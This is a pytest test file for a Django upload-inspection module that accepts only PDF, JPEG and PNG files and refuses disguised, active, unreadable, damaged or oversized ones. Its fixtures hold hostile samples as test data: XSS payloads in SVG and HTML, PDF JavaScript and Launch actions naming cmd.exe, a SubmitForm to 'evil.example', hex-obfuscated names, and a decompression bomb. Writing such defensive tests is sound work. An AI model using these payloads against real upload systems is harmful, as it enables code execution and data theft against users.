"""A file is what its content says; what acts, hides or bursts is refused with words that help."""

from __future__ import annotations

import pytest
from django.utils import translation
from hypothesis import HealthCheck, given
from hypothesis import settings as effort
from hypothesis import strategies as st

from yizhan.records import inspection, refusals
from yizhan.records.tests.conftest import jpeg, packed, pdf, png

QUIET = b"<< /Type /Catalog /Pages 2 0 R >>"


@pytest.fixture
def look(tmp_path):
    def look_at(content, name="a.pdf", declared="", accept=("pdf", "jpeg", "png")):
        path = tmp_path / "arrived"
        path.write_bytes(content)
        return inspection.look(path, name=name, declared=declared, accept=accept).key

    return look_at


@pytest.mark.parametrize(
    ("content", "name", "declared", "kind"),
    [
        (pdf(QUIET), "a.pdf", "application/pdf", "pdf"),
        (pdf(QUIET), "A.PDF", "application/octet-stream", "pdf"),
        (jpeg(), "b.JPG", "image/jpeg", "jpeg"),
        (jpeg(), "b.jpeg", "", "jpeg"),
        (png(), "c.png", "image/png; charset=binary", "png"),
    ],
)
def test_good_files_are_known(look, content, name, declared, kind):
    assert look(content, name, declared) == kind


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<!doctype html><script>alert(1)</script>",
        b"PK\x03\x04 a zip, a docx, a jar",
        b"MZ\x90 a program",
        b"#!/bin/sh",
        b"GIF89a",
        b"\x00" * 100,
        b" %PDF-1.7 not at the beginning",
    ],
)
def test_other_kinds_are_not_taken_whatever_they_are_called(look, content):
    for name in ("a.pdf", "a.png", "a.svg", "a"):
        with pytest.raises(refusals.NotAccepted) as refused:
            look(content, name)
    assert "PDF、JPEG、PNG" in refused.value.advice


def test_a_kind_that_is_not_welcome_here_is_not_taken(look):
    with pytest.raises(refusals.NotAccepted, match="PDF 格式"):
        look(png(), "a.png", accept=("pdf",))


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (png(), "photo.jpg", ""),
        (png(), "photo.png", "image/jpeg"),
        (png(), "photo.png.html", ""),
        (pdf(QUIET), "paper.pdf", "text/html"),
        (pdf(QUIET), "paper", ""),
    ],
)
def test_name_and_declared_type_must_not_contradict(look, content, name, declared):
    with pytest.raises(refusals.Disguised):
        look(content, name, declared)


@pytest.mark.parametrize(
    "act",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /J#61vaScript /JS (app.alert(1)) >>",
        b"<< /S /#4a#61#76#61#53#63#72#69#70#74 >>",
        b"<< /S/Launch/F(cmd.exe)>>",
        b"<< /S /SubmitForm /F (https://evil.example) >>",
        b"<< /AcroForm << /XFA 7 0 R >> >>",
        b"<< /Subtype /RichMedia >>",
    ],
)
def test_a_pdf_that_acts_is_refused_wherever_it_hides_it(look, act):
    for content in (
        pdf(QUIET, act),
        pdf(QUIET, packed(b"9 0 " + act)),
        pdf(QUIET, packed(b"% a comment\n9 0 " + act)),
        pdf(QUIET, packed(b"9 0 " + act, head=b"/Type /#4fbjStm /N 1 /First 4 /Filter [ /FlateDecode ]")),
        pdf(QUIET, packed(b"9 0 " + act, head=b"/Filter /FlateDecode")),
    ):
        with pytest.raises(refusals.ActiveContent):
            look(content)


def test_words_that_only_look_alike_are_no_harm(look):
    harmless = b"<< /JavaScripting 1 /Launches 2 /Title (JavaScript and /LaunchPad) /XFAB 1 >>"
    assert look(pdf(QUIET, harmless, packed(b"1 0 0 1 72 720 cm BT (text) Tj ET"))) == "pdf"


@pytest.mark.parametrize(
    "content",
    [
        pdf(QUIET, b"<< /Filter /Standard >>").replace(b"/Root", b"/Encrypt 2 0 R /Root"),
        pdf(QUIET, packed(b"9 0 x", head=b"/Type /ObjStm /Filter /LZWDecode")),
        pdf(QUIET, packed(b"9 0 x", head=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")),
        pdf(QUIET, packed(b"9 0 x", head=b"/Type /ObjStm /Filter 5 0 R")),
        pdf(
            QUIET,
            packed(b"9 0 x", head=b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        ),
    ],
)
def test_what_cannot_be_looked_into_is_refused(look, content):
    with pytest.raises(refusals.CannotBeChecked):
        look(content)


def test_a_pdf_that_bursts_when_unpacked_is_refused_in_bounded_memory(look):
    bomb = packed(b"1 0 " + b" " * (80 * 1024 * 1024))
    assert len(bomb) < 200_000
    with pytest.raises(refusals.CannotBeChecked):
        look(pdf(QUIET, bomb))


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (pdf(QUIET, end=b""), "a.pdf"),
        (png(end=b""), "a.png"),
        (png()[:20], "a.png"),
        (png(width=0), "a.png"),
        (jpeg()[:12], "a.jpg"),
        (b"\xff\xd8\xff\xe0\x00\x10" + b"\x00" * 40, "a.jpg"),
    ],
)
def test_what_breaks_off_is_refused(look, content, name):
    with pytest.raises(refusals.Damaged):
        look(content, name)


@pytest.mark.parametrize(
    ("content", "name"),
    [(png(40_000, 40_000), "a.png"), (jpeg(65_000, 65_000), "a.jpg"), (png(2**31, 1), "a.png")],
)
def test_a_picture_that_would_fill_the_memory_is_refused_by_its_header(look, content, name):
    with pytest.raises(refusals.TooManyPixels, match="像素"):
        look(content, name)


@effort(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    beginning=st.sampled_from(
        [b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"", png()[:33], jpeg()[:24]]
    ),
    rest=st.binary(max_size=300),
    ending=st.sampled_from([b"%%EOF", b"IEND", b"stream\nendstream", b""]),
    name=st.sampled_from(["a.pdf", "a.jpg", "a.png"]),
)
def test_no_bytes_whatsoever_do_anything_but_pass_or_be_refused(look, beginning, rest, ending, name):
    try:
        assert look(beginning + rest + ending, name) in {"pdf", "jpeg", "png"}
    except refusals.FileRefused as refused:
        assert refused.message
        assert refused.advice


def test_refusals_speak_english_on_english_pages(look):
    with translation.override("en"), pytest.raises(refusals.NotAccepted) as refused:
        look(b"GIF89a")
    assert "not accepted" in refused.value.message
    assert refused.value.advice == "Please upload a file of one of these kinds: PDF, JPEG, PNG."
